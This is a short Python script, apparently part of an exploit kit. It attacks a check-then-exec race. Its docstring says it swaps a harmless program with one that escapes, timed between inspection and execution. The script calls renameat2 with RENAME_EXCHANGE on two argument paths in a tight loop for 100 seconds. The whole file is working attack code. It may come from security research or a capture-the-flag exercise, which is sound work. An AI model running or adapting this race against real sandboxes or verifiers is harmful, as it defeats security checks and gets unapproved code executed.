"""Exchange a harmless program with one that leads out, all the time: between the look at it and its exec."""

from __future__ import annotations

import time

from kit import ARGUMENTS, LIBC, check, say

AT_FDCWD, RENAME_EXCHANGE = -100, 2
one, other = (path.encode() for path in ARGUMENTS)
say("swapping", "begins")
end = time.monotonic() + 100
while time.monotonic() < end:
    for _ in range(1000):
        check(LIBC.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE))
